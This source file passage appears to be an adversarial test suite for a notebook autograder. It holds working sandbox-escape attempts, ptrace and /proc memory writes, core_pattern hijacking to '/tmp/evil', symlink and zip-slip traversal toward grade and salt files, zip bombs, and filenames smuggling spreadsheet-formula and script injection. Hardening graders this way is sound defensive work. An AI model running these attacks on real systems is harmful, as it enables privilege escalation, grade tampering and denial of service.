    print("unshare", libc.unshare(flag))
for kind in (b"tmpfs", b"proc", b"overlay", b"bind"):
    print("mount", libc.mount(b"none", b"/home/student/tmp", kind, 0, b""))
print("mount", libc.mount(b"/", b"/home/student/tmp", b"", 4096, b""))
os.mkdir("jail")
for change in (lambda: os.chroot("jail"), lambda: os.setuid(0), lambda: os.setgroups([0]),
               lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)), lambda: os.nice(-20)):
    try:
        change()
        print("done")
    except OSError as error:
        print(error.strerror)
for number in range(1, 40):
    try:
        os.setns(os.open(f"/proc/{number}/ns/mnt", os.O_RDONLY))
    except (OSError, AttributeError):
        pass
"""
    first(notebook, code, place)


@attack("the walls")
def other_processes_traced(notebook, place):
    """Attach to other processes and write into their memory."""
    code = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for number in [1, os.getppid(), *range(2, 100)]:
    if number == os.getpid():
        continue
    for request in (16, 0x4206):
        if libc.ptrace(request, number, 0, 0) == 0:
            print("attached to", number)
    for name in ("mem", "oom_score_adj", "comm", "coredump_filter"):
        try:
            with open(f"/proc/{number}/{name}", "r+b", buffering=0) as stream:
                stream.write(b"0")
                print("wrote", number, name)
        except OSError:
            pass
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
    try:
        open(path, "w").write("|/tmp/evil")
        print("wrote", path)
    except OSError as error:
        print(error.strerror)
"""
    first(notebook, code, place)


@attack("the walls")
def links_out(notebook, place):
    """Leave links that lead to the course where the judge reads and writes."""
    code = """
import os, shutil
for name in ("recording", "files", "tmp", "recording/truth.npz", "label.csv", ".ipython"):
    for target in (ROOT, ROOT + "/salt.txt", f"{ROOT}/graded/{ASSIGNMENT}/{ME}.json", "/proc/1"):
        try:
            if os.path.isdir(name) and not os.path.islink(name):
                os.rename(name, name + ".old")
            if os.path.lexists(name):
                os.unlink(name)
            os.symlink(target, name)
            print(name, open(name).read(100))
        except OSError as error:
            print(error.strerror)
"""
    first(notebook, code, place)


# Files that are no notebooks ----------------------------------------------------------------------


@attack("files that are no notebooks")
def json_without_an_end(notebook, place):
    """Hand in JSON that is nested a million times."""
    return b'{"cells": ' + b"[" * 10**6 + b"]" * 10**6 + b"}"


@attack("files that are no notebooks")
def notebook_of_50_megabytes(notebook, place):
    """Hand in a notebook of 50 MB."""
    notebook.cells.append(nbformat.v4.new_code_cell("x" * 50_000_000))


@attack("files that are no notebooks")
def cells_of_every_form(notebook, place):
    """Hand in 1500 cells of wrong types, with sources and metadata that are no text."""
    odd = [None, 3, [], "cell", {}, {"cell_type": "code", "source": {"a": 1}}, {"source": [[1], 2]},
           {"cell_type": [], "metadata": 7, "source": "1"}, {"metadata": {"course": {"id": []}}},
           {"cell_type": "code", "source": "\ud800\x00\r", "id": {}, "metadata": {"course": 1}},
           {"cell_type": "code", "metadata": {"nbgrader": {"grade_id": {"a": 1}}}}]  # fmt: skip
    cells = json.loads(json.dumps(notebook))["cells"]
    return json.dumps({"cells": odd * 130 + cells, "nbformat": "x", "metadata": []}).encode()


@attack("files that are no notebooks")
def notebook_that_unfolds(notebook, place):
    """Hand in some 20 MB of empty lists, which take twenty times as much memory."""
    return b'{"cells": [' + b"[]," * 6_000_000 + b"[]]}"


# Archives -----------------------------------------------------------------------------------------


@attack("archives")
def archive_that_leads_out(notebook, place):
    """Hand in an archive whose names lead to the course's own files."""
    deep = "../" * 12
    names = [f"{deep}{place.root}/salt.txt".replace("//", "/"), f"{place.root}/grades.csv",
             f"../../graded/{place.assignment}/{place.other}.json", "..\\..\\salt.txt",
             f"../../submitted/{place.assignment}/{place.other}/hand_in.ipynb",
             "C:\\evil.ipynb", f"x/../../../{place.other}__{place.assignment}.ipynb"]  # fmt: skip
    files = dict.fromkeys(names, written(notebook))
    return {f"{place.me}__work.zip": packed(files), "bulk.zip": packed(files)}


@attack("archives")
def archive_that_unfolds(notebook, place):
    """Hand in archives of a few kB that hold gigabytes, in archives in archives."""
    bomb = packed({f"{place.assignment}.ipynb": bytes(200_000_000)})
    inner = packed({f"{number}.zip": bomb for number in range(20)})
    return {f"{place.me}__{place.assignment}.zip": bomb, f"{place.me}__more.zip": inner,
            "bulk.zip": packed({f"{place.me}__{n}.zip": inner for n in range(5)})}  # fmt: skip


@attack("archives")
def archive_of_links(notebook, place):
    """Hand in an archive whose notebook is a link to the work of another, or to the salt."""
    files = {}
    for name, target in ((f"{place.assignment}.ipynb", f"{place.root}/salt.txt"),
                         ("other.ipynb", f"{place.root}/downloaded"),
                         ("device.ipynb", "/dev/zero")):  # fmt: skip
        entry = zipfile.ZipInfo(name)
        entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        files[entry] = target
    return {f"{place.me}__work.zip": packed(files)}


@attack("archives")
def archive_in_the_name_of_another(notebook, place):
    """Name the files in its own archive as if another student had handed them in, and later."""
    names = [f"{place.other}__{place.assignment}.ipynb", f"{place.other}/{place.assignment}.ipynb",
             f"Other_99_assignsubmission_file_/{place.other}__{place.assignment}.ipynb",
             f"{place.assignment}_{place.other}_attempt_2099-01-01-01-01-01_x.ipynb",
             f"other_99_999999_{place.assignment}.ipynb"]  # fmt: skip
    own = packed(dict.fromkeys(names, written(notebook)))
    return {f"{place.me}__work.zip": own, "all.zip": packed({f"{place.me}_7_7001_work.zip": own})}


@attack("archives")
def name_of_another_platform(notebook, place):
    """Name its file in Canvas as Blackboard would name the file of another student."""
    end = f"{place.other}_attempt_2099-01-01-01-01-01_{place.assignment}.ipynb"
    return {"canvas.zip": packed({f"{place.me}_7_7001_x_{end}": written(notebook),
                                  f"unknownbob_8_7002_x_{end}": written(notebook)})}  # fmt: skip


@attack("archives")
def names_that_stop_the_class(notebook, place):
    """Give files names with times that do not exist, numbers without an end, and blanks."""
    names = [f"{place.assignment} ({'1' * 5000}).ipynb", f"{' ' * 5000}x.ipynb", "\x1b[2J.ipynb",
             f"{'copy ' * 5000}.ipynb", f"x{' (1)' * 5000}.ipynb", ".ipynb", " .ipynb",
             ".", "Q.ipynb", "=cmd|'/C calc'!A0.ipynb", "<script>.ipynb", "con.ipynb"]  # fmt: skip
    own = packed(dict.fromkeys(names, written(notebook))).replace(b"Q.ipynb", b"\0.ipynb")
    timed = f"{place.me}_7_7001_x_attempt_2026-99-99-99-99-99_y.ipynb"
    huge = f"{place.me}_7_{'9' * 5000}_{place.assignment}.ipynb"
    return {f"{place.me}__work.zip": own,
            "canvas.zip": packed({timed: written(notebook), huge: written(notebook)})}  # fmt: skip


@attack("archives")
def archives_that_are_broken(notebook, place):
    """Hand in archives that end early, lie about sizes, or say that they hold a million files."""
    whole = packed({f"{place.assignment}.ipynb": written(notebook)})
    lying = bytearray(whole)
    at = lying.rindex(b"PK\x01\x02")
    lying[at + 20 : at + 28] = b"\xff\xff\xff\x7f" * 2
    entry = b"PK\x01\x02" + bytes(24) + b"\1" + bytes(17) + b"a"
    size, most = 10**6 * len(entry), 2**32 - 1
    end = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 10**6, 10**6, size, 0)
    end += struct.pack("<4sLQL", b"PK\x06\x07", 0, size, 1)
    end += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2**16 - 1, 2**16 - 1, most, most, 0)
    million = packed({f"{place.me}_7_7001_work.zip": entry * 10**6 + end})
    many = packed(dict.fromkeys(map(str, range(60_000)), b""), zipfile.ZIP_STORED)
    files = {"a": whole[:-30], "b": b"PK\x05\x06" + bytes(18), "c": bytes(lying), "d": many,
             "e": b"no archive"}  # fmt: skip
    own = {f"{place.me}__{name}.zip": data for name, data in files.items()}
    return {**own, "f.zip": whole[:50] + whole, "all.zip": million}
